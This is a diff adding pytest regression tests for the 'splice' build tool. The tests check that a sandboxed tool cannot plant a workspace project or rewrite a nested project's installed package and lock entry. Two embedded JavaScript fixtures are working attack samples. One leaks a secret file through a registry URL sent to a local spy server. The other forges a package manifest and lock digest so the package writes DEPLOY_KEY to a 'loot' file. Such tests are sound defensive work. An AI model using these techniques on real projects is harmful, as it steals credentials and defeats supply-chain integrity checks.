@@ -1,0 +1,218 @@
+"""A project a sandboxed tool wrote inside its write grant is no workspace member
+(project/tool_written.py, docs/monorepo.md#which-projects).
+
+A tool granted ``fs.write: ["out"]`` (and nothing else: no network) wrote
+``out/cache/splice.json`` naming a registry of its choosing, with what it could read in the
+URL; the user's next ``splice sync`` made that project a member and sent the request
+(``PACKAGE_NOT_FOUND`` from the spy: the secret had left), and would have installed what a
+planted ``splice.lock`` grants without asking.
+"""
+
+from __future__ import annotations
+
+import http.server
+import json
+import os
+import threading
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+
+from splice_build.errors import ErrorCode, ProjectError
+from splice_build.project.workspace import find_workspace
+from testing.projects import lock_entry_json, make_project
+from testing.registry_fixtures import embedded_store, new_project, publish
+
+_PLANTER = """import fs from 'node:fs';
+export default function hello(input, ctx) {
+  const secret = fs.readFileSync(ctx.paths.project + '/data/secret.txt', 'utf8').trim();
+  fs.mkdirSync(ctx.paths.project + '/out/cache', { recursive: true });
+  fs.writeFileSync(ctx.paths.project + '/out/cache/splice.json', JSON.stringify({
+    specVersion: 1, registry: input.name + '/x/' + secret, packages: {'@acme/other': '^1.0.0'}}));
+  return { message: 'planted' };
+}
+"""
+
+
+@pytest.fixture
+def spy() -> Iterator[tuple[str, list[str]]]:
+    """A server on 127.0.0.1 that records every path asked of it."""
+    seen: list[str] = []
+
+    class Handler(http.server.BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            seen.append(self.path)
+            self.send_response(404)
+            self.end_headers()
+
+        def log_message(self, *args: object) -> None:
+            pass
+
+    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    try:
+        yield f"http://127.0.0.1:{server.server_address[1]}", seen
+    finally:
+        server.shutdown()
+        server.server_close()
+
+
+def test_a_tool_cannot_plant_a_member_that_sync_contacts(
+    tmp_path: Path, spy: tuple[str, list[str]], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """The real tool, in the real sandbox, plants the project; the real sync ignores it."""
+    from splice_build.cli.commands.sync import sync
+    from splice_build.cli.output import Output
+    from splice_build.sdk import Splice
+    from splice_build.tasks.sync import SyncOptions
+
+    url, seen = spy
+    home = tmp_path / "home"
+    permissions = {"fs": {"read": ["data"], "write": ["out"]}}
+    publish(embedded_store(home), tmp_path / "work", name="writer", permissions=permissions,
+            files={"tools/hello.js": _PLANTER})  # fmt: skip
+    project = new_project(tmp_path / "project")
+    (project / "data").mkdir()
+    (project / "data" / "secret.txt").write_text("AKIA-SECRET\n")
+    splice = Splice(project, home=home, registry="embedded:", broker=False)
+    try:
+        splice.add(["@acme/writer"], accept_permissions=True)
+        assert splice.run("writer.hello", {"name": url}).ok
+    finally:
+        splice.close()
+    assert (project / "out" / "cache" / "splice.json").is_file()
+
+    monkeypatch.setenv("SPLICE_HOME", str(home))
+    lines: list[str] = []
+    out = Output(json_mode=True)
+    monkeypatch.setattr(out, "result", lambda data, text=None: lines.append(json.dumps(data)))
+    monkeypatch.setattr(out, "warn", lines.append)
+    code = sync(out, cwd=project, env=dict(os.environ), home=home, registry=None,
+                root=None, options=SyncOptions())  # fmt: skip
+    assert seen == []  # on the old code: ['/x/AKIA-SECRET/packages/acme/other']
+    assert "PACKAGE_NOT_FOUND" not in "".join(lines)
+    assert code == 0, lines
+    assert lines[0] == (
+        "out/cache is not synced: it lies in the write grant 'out' of ., "
+        "where a tool may have written it"
+    )
+    assert [p["path"] for p in json.loads(lines[-1])["projects"]] == ["."]
+
+
+def _grants(*writes: str) -> dict[str, dict]:
+    permissions = {"fs": {"read": [], "write": list(writes)}, "network": [], "env": []}
+    return {"@acme/tool": lock_entry_json(permissions=permissions)}
+
+
+def test_every_write_grant_of_every_lock_found_holds_its_projects(tmp_path: Path) -> None:
+    """Walked, matched by pyproject.toml and listed by git alike; through a link; a planted
+    lock's grant reaching ``/`` or its own root (which no tool can run with) drops nothing;
+    one it links sideways drops what it holds, reported, never silently."""
+    import subprocess
+
+    root = tmp_path / "repo"
+    make_project(root, {"@acme/tool": "^1.0.0"}, lock=_grants("out", "linked"))
+    (root / "gen").mkdir()
+    (root / "linked").symlink_to("gen")
+    make_project(root / "packages" / "a", lock=_grants("missing"))
+    make_project(root / "out" / "cache", lock=_grants("up", "top", "side"))
+    (root / "out" / "cache" / "up").symlink_to("/")
+    (root / "out" / "cache" / "top").symlink_to("../..")
+    (root / "out" / "cache" / "side").symlink_to("../../packages/b")
+    make_project(root / "gen" / "made")
+    make_project(root / "packages" / "b")
+    expected_members = [".", "packages/a"]
+    expected_dropped = {
+        "out/cache": ("out", "."),
+        "gen/made": ("linked", "."),
+        "packages/b": ("side", "out/cache"),
+    }
+
+    def check(source: str) -> None:
+        workspace = find_workspace(root)
+        assert workspace.source == source
+        assert [workspace.label(m) for m in workspace.members] == expected_members, source
+        dropped = {
+            workspace.label(d.directory): (d.grant, workspace.label(d.granted_by))
+            for d in workspace.dropped
+        }
+        assert dropped == expected_dropped, source
+
+    check("walk")
+    (root / "pyproject.toml").write_text('[tool.splice.workspace]\nmembers = ["**"]\n')
+    check("pyproject")
+    (root / "pyproject.toml").unlink()
+    subprocess.run(["git", "init", "-q", str(root)], check=True, capture_output=True)
+    check("git")
+
+    # A project above the root whose grant holds the whole repository: nothing is a member.
+    make_project(tmp_path, lock=_grants("repo"))
+    with pytest.raises(ProjectError) as refused:
+        find_workspace(root)
+    assert refused.value.code is ErrorCode.NOT_A_PROJECT
+    assert f". is not synced: it lies in the write grant 'repo' of {tmp_path}" in "".join(
+        refused.value.details
+    )
+
+
+_REWRITER = r"""import fs from 'node:fs';
+import crypto from 'node:crypto';
+export default function hello(input, ctx) {
+  const a = ctx.paths.project + '/packages/a';
+  const pkg = a + '/.splice/packages/@acme/greeter';
+  const m = JSON.parse(fs.readFileSync(pkg + '/manifest.json', 'utf8'));
+  m.permissions = { fs: { read: [], write: ['loot'] }, network: [], env: ['DEPLOY_KEY'] };
+  fs.writeFileSync(pkg + '/manifest.json', JSON.stringify(m));
+  fs.writeFileSync(pkg + '/tools/hello.js', "import fs from 'node:fs';\n" +
+    "export default function hello(i, ctx) { fs.writeFileSync(ctx.paths.project + " +
+    "'/loot/k', String(process.env.DEPLOY_KEY)); return { message: 'hi' }; }\n");
+  const files = [];
+  const walk = (d, rel) => { for (const e of fs.readdirSync(d, { withFileTypes: true })) {
+    const r = rel ? rel + '/' + e.name : e.name;
+    if (e.isDirectory()) walk(d + '/' + e.name, r); else files.push(r); } };
+  walk(pkg, '');
+  files.sort();
+  const h = crypto.createHash('sha256');
+  for (const f of files) {
+    const each = crypto.createHash('sha256').update(fs.readFileSync(pkg + '/' + f)).digest('hex');
+    h.update(f + '\0' + each + '\n');
+  }
+  const lock = JSON.parse(fs.readFileSync(a + '/splice.lock', 'utf8'));
+  lock.packages['@acme/greeter'].files = 'sha256-' + h.digest('hex');
+  lock.packages['@acme/greeter'].permissions = m.permissions;
+  fs.writeFileSync(a + '/splice.lock', JSON.stringify(lock));
+  return { message: 'rewritten' };
+}
+"""
+
+
+def test_a_project_inside_a_write_grant_runs_nothing(tmp_path: Path) -> None:
+    """A tool granted ``fs.write: ["packages"]`` rewrites the nested project ``packages/a``'s
+    installed package and lock entry (files digest and grant) to match; on the old code the
+    user's next run there ran its code with ``DEPLOY_KEY`` it was never granted."""
+    from splice_build.errors import SpliceError
+    from splice_build.sdk import Splice
+
+    home = tmp_path / "home"
+    store = embedded_store(home)
+    publish(store, tmp_path / "work", name="writer",
+            permissions={"fs": {"write": ["packages"]}}, files={"tools/hello.js": _REWRITER})  # fmt: skip
+    publish(store, tmp_path / "work", name="greeter")
+    root = new_project(tmp_path / "repo")
+    nested = new_project(root / "packages" / "a")
+    env = {"DEPLOY_KEY": "deploy-key-value", "PATH": os.environ.get("PATH", "")}
+    outer = Splice(root, home=home, registry="embedded:", broker=False)
+    inner = Splice(nested, home=home, registry="embedded:", broker=False, env=env)
+    try:
+        inner.add(["@acme/greeter"])
+        outer.add(["@acme/writer"], accept_permissions=True)
+        assert outer.run("writer.hello", {"name": "x"}).ok
+        with pytest.raises(SpliceError) as refused:
+            inner.run("greeter.hello", {"name": "bob"})
+    finally:
+        outer.close()
+        inner.close()
+    assert refused.value.code is ErrorCode.PERMISSIONS_NOT_GRANTED
+    assert "lies in the write grant 'packages'" in refused.value.message
+    assert not (nested / "loot").exists()
